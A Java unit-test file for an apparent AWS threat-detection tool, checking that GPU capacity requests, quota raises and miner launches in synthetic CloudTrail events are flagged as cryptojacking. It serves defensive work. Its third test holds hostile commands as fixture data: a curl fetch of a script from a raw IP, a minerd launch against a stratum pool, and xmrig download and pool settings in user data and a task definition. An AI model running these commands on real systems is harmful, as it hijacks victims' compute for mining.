package dev.loupe.core.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.nio.file.Path;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.function.Consumer;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.loupe.core.reason.Findings;
import dev.loupe.core.store.EvidenceStore;

/**
 * GPUs asked for the ways miners ask when RunInstances is watched or refused: spot requests, fleets, launch
 * templates, scaling groups, EKS node groups, Batch and SageMaker, a stopped instance's type changed, and a raise
 * of the quota that bounds them. Each request names its types in its own place and case. And miners named in what a
 * call sets running.
 */
class MinerCapacityTest {
	static final Instant T = Instant.parse("2025-10-05T02:00:00Z");
	private final ScenarioTest events = new ScenarioTest();
	private int second;

	@Test
	void everyWayToAskForGpusIsASignalAndSmallTypesAreNot(@TempDir Path dir) throws IOException {
		ArrayNode calls = ScenarioTest.JSON.createArrayNode();
		calls.add(ask("ec2", "RequestSpotInstances", r -> r.put("instanceCount", 20).putObject("launchSpecification").put("instanceType", "g4dn.12xlarge")));
		calls.add(ask("ec2", "RequestSpotInstances", r -> r.putObject("launchSpecification").put("instanceType", "t3.micro")));
		calls.add(ask("ec2", "RequestSpotFleet", r -> r.putObject("spotFleetRequestConfig").putObject("launchSpecifications").putArray("items")
				.addObject().put("instanceType", "p3.8xlarge")));
		calls.add(ask("ec2", "CreateFleet", r -> r.putObject("CreateFleetRequest").putObject("LaunchTemplateConfigs").putArray("Overrides")
				.addObject().put("InstanceType", "g5.48xlarge")));
		calls.add(ask("ec2", "CreateLaunchTemplate", r -> r.putObject("CreateLaunchTemplateRequest").put("LaunchTemplateName", "w")
				.putObject("LaunchTemplateData").put("InstanceType", "p5.48xlarge")));
		calls.add(ask("ec2", "ModifyInstanceAttribute", r -> r.put("instanceId", "i-0a1b2c3d4e5f60718").putObject("instanceType").put("value", "p3.2xlarge")));
		calls.add(ask("autoscaling", "CreateAutoScalingGroup", r -> r.put("autoScalingGroupName", "w").putObject("mixedInstancesPolicy")
				.putObject("launchTemplate").putArray("overrides").addObject().put("instanceType", "trn1.32xlarge")));
		calls.add(ask("eks", "CreateNodegroup", r -> r.put("nodegroupName", "w").putArray("instanceTypes").add("m5.large").add("g6e.xlarge")));
		calls.add(ask("eks", "CreateNodegroup", r -> r.put("nodegroupName", "web").putArray("instanceTypes").add("m5.large")));
		calls.add(ask("batch", "CreateComputeEnvironment", r -> r.putObject("computeResources").putArray("instanceTypes").add("p3")));
		calls.add(ask("batch", "CreateComputeEnvironment", r -> r.putObject("computeResources").putArray("instanceTypes").add("optimal")));
		calls.add(ask("sagemaker", "CreateNotebookInstance", r -> r.put("notebookInstanceName", "w").put("instanceType", "ml.p3.16xlarge")));
		calls.add(ask("sagemaker", "CreateNotebookInstance", r -> r.put("notebookInstanceName", "n").put("instanceType", "ml.t3.medium")));
		calls.add(ask("sagemaker", "CreateTrainingJob", r -> r.putObject("resourceConfig").put("instanceType", "ml.g5.48xlarge").put("instanceCount", 8)));
		calls.add(ask("servicequotas", "RequestServiceQuotaIncrease", r -> r.put("serviceCode", "ec2").put("quotaCode", "L-DB2E81BA")
				.put("desiredValue", 512)));
		calls.add(ask("servicequotas", "RequestServiceQuotaIncrease", r -> r.put("serviceCode", "s3").put("quotaCode", "L-DC2B2D3D")
				.put("desiredValue", 200)));
		List<String> expected = List.of("RequestSpotInstances", "RequestSpotFleet", "CreateFleet", "CreateLaunchTemplate", "ModifyInstanceAttribute",
				"CreateAutoScalingGroup", "CreateNodegroup", "CreateComputeEnvironment", "CreateNotebookInstance", "CreateTrainingJob")
				.stream().map(n -> n + " T1496 unusual-compute-requested").toList();
		assertEquals(java.util.stream.Stream.concat(expected.stream(), java.util.stream.Stream.of("RequestServiceQuotaIncrease T1496 compute-quota-raised"))
				.toList(), TamperingAndSharingTest.described(dir, calls, Findings.Signal::technique));
	}

	/**
	 * Oscar's leaked key probes IAM, asks for more GPU quota, then makes a launch template and a scaling group of
	 * GPU instances: one sequence, oscar's. Nina, a data scientist signed in through IAM Identity Center, raises
	 * the same quota and starts a training job on GPUs the same night: no story.
	 */
	@Test
	void aKeyThatBuildsAMinerFleetIsOneStoryAndATrainingJobIsNone(@TempDir Path dir) throws IOException {
		ArrayNode calls = DeployedCodeTest.probes(events, T, "oscar");
		Instant t = T.plus(15, ChronoUnit.MINUTES);
		ObjectNode oscar = ScenarioTest.user("oscar");
		calls.add(events.call(t, "servicequotas.amazonaws.com", "RequestServiceQuotaIncrease", oscar, DeployedCodeTest.VPS, DeployedCodeTest.BOTO,
				r -> r.put("serviceCode", "ec2").put("quotaCode", "L-DB2E81BA").put("desiredValue", 512)));
		calls.add(events.call(t.plusSeconds(60), "ec2.amazonaws.com", "CreateLaunchTemplate", oscar, DeployedCodeTest.VPS, DeployedCodeTest.BOTO,
				r -> r.putObject("CreateLaunchTemplateRequest").put("LaunchTemplateName", "w").putObject("LaunchTemplateData")
						.put("InstanceType", "g4dn.12xlarge")));
		calls.add(events.call(t.plusSeconds(90), "autoscaling.amazonaws.com", "CreateAutoScalingGroup", oscar, DeployedCodeTest.VPS,
				DeployedCodeTest.BOTO, r -> r.put("autoScalingGroupName", "w").put("maxSize", 40).putObject("launchTemplate")
						.put("launchTemplateName", "w")));
		ObjectNode nina = ScenarioTest.roleSession("AWSReservedSSO_DataScience_5f2a9c1e", "nina@example.com");
		String console = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15";
		calls.add(events.call(t.plus(40, ChronoUnit.MINUTES), "servicequotas.amazonaws.com", "RequestServiceQuotaIncrease", nina, "198.51.100.44",
				console, r -> r.put("serviceCode", "sagemaker").put("quotaCode", "L-5A3D4C1B").put("desiredValue", 4)));
		calls.add(events.call(t.plus(45, ChronoUnit.MINUTES), "sagemaker.amazonaws.com", "CreateTrainingJob", nina, "198.51.100.44", console,
				r -> r.put("trainingJobName", "churn-7").putObject("resourceConfig").put("instanceType", "ml.g5.12xlarge").put("instanceCount", 1)));
		try (EvidenceStore store = ScenarioTest.reasoned(dir, ScenarioTest.trail(dir, calls))) {
			Findings.Sequence q = ScenarioTest.onlySequence(store);
			assertEquals("oscar", q.actorLabel());
			assertEquals(List.of("access-denied-burst", "compute-quota-raised", "unusual-compute-requested"),
					q.members().stream().map(s -> s.detector().substring(s.detector().lastIndexOf('/') + 1)).toList());
		}
	}

	/**
	 * A miner named in what a call sets running: a task's image and pool, a command sent to instances, an instance's
	 * user data (in Base64). A responder's command that kills and removes the miner, and an everyday task, are not.
	 */
	@Test
	void aMinerNamedInWhatACallSetsRunningIsImpact(@TempDir Path dir) throws IOException {
		ArrayNode calls = ScenarioTest.JSON.createArrayNode();
		calls.add(ask("ecs", "RegisterTaskDefinition", r -> r.put("family", "w").putArray("containerDefinitions").addObject().put("name", "w")
				.put("image", "docker.io/xmrig/xmrig:6.21.0").putArray("command").add("-o").add("pool.supportxmr.com:443")));
		calls.add(ask("ecs", "RegisterTaskDefinition", r -> r.put("family", "web").putArray("containerDefinitions").addObject()
				.put("name", "web").put("image", "public.ecr.aws/nginx/nginx:1.27")));
		calls.add(ask("ssm", "SendCommand", r -> r.put("documentName", "AWS-RunShellScript").putObject("parameters").putArray("commands")
				.add("curl -s http://203.0.113.66/s.sh -o /tmp/s.sh").add("nohup /tmp/.x/minerd -a cryptonight -o stratum+tcp://45.9.148.21:3333 &")));
		calls.add(ask("ssm", "SendCommand", r -> r.put("documentName", "AWS-RunShellScript").putObject("parameters").putArray("commands")
				.add("pkill -9 -f xmrig; rm -rf /tmp/.x/xmrig").add("systemctl stop kinsing")));
		String script = "#!/bin/bash\nyum install -y git\ncurl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz | tar xz\n";
		calls.add(ask("ec2", "RunInstances", r -> r.put("instanceType", "c6i.8xlarge").put("userData",
				java.util.Base64.getEncoder().encodeToString(script.getBytes(java.nio.charset.StandardCharsets.UTF_8)))));
		assertEquals(List.of("RegisterTaskDefinition TA0040 miner-set-running", "SendCommand TA0040 miner-set-running",
				"SendCommand TA0002 ssm-send-command", "SendCommand TA0002 ssm-send-command", "RunInstances TA0040 miner-set-running"),
				TamperingAndSharingTest.described(dir, calls, Findings.Signal::tactic));
	}

	private ObjectNode ask(String service, String name, Consumer<ObjectNode> request) {
		return events.call(T.plusSeconds(second++), service + ".amazonaws.com", name, ScenarioTest.user("mallory"), DeployedCodeTest.VPS,
				DeployedCodeTest.BOTO, request);
	}
}
